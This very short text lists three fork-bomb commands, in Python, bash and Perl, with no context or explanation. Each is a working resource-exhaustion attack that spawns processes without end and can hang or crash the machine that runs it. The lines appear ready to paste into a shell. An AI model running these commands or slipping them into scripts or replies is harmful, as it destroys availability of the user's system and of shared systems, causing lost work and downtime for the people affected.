python3 -c 'import os
while True: os.fork()' &
:(){ :|:& };:
perl -e 'fork while 1' &
